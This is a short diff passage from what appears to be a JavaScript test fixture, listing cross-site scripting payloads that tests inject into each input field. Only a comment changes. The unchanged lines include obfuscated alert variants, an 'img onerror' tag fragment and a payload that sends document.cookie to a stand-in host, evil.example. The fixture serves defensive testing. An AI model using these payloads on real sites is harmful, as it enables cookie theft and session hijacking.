@@ -1,4 +1,4 @@
-/** Ways in which a text has been made to run; grouped by what they try. For tests, of which each field gets all. */
+/** Texts that have been used to run scripts, grouped by method. Tests try all of them in each field. */
 const SCRIPTS = ['alert(1)', 'alert`1`', 'top["al"+"ert"](1)', 'fetch("//evil.example/"+document.cookie)'];
 const TAGS = [
   'img src=x onerror',
